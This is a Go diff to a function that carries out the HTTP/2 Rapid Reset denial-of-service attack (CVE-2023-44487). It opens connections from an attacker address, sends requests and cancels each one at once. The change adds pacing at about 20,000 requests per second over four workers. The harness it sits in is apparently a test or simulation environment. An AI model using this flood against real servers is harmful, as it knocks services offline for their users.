@@ -8,12 +8,14 @@ import (
 	"io"
 	"strings"
 	"sync/atomic"
+	"time"
 
 	"golang.org/x/net/http2"
 	"golang.org/x/net/http2/hpack"
 )
 
-// rapidReset asks over HTTP/2 and takes each request back at once (CVE-2023-44487).
+// rapidReset asks over HTTP/2 and takes each request back at once (CVE-2023-44487), so often in
+// a second that most of the work is the server's.
 func rapidReset(ctx context.Context, w *world) (string, error) {
 	_, address, _ := strings.Cut(w.server.url("http"), "://")
 	var head bytes.Buffer
@@ -24,8 +26,9 @@ func rapidReset(ctx context.Context, w *world) (string, error) {
 			return "", err
 		}
 	}
+	const workers, perSecond, burst = 4, 20_000, 100
 	var requests, connections atomic.Int64
-	repeatedly(ctx, 4, 10_000, 1000, func(ctx context.Context, _, _ int) {
+	repeatedly(ctx, workers, 10_000, 1000, func(ctx context.Context, _, _ int) {
 		raw, err := dialFrom(ctx, attackerAddress, address)
 		if err != nil {
 			return
@@ -51,6 +54,9 @@ func rapidReset(ctx context.Context, w *world) (string, error) {
 				return // the server has had enough
 			}
 			requests.Add(1)
+			if id/2%burst == burst-1 {
+				sleep(ctx, time.Second*burst*workers/perSecond)
+			}
 		}
 	})
 	return fmt.Sprintf("%d requests taken back, on %d connections", requests.Load(), connections.Load()), nil
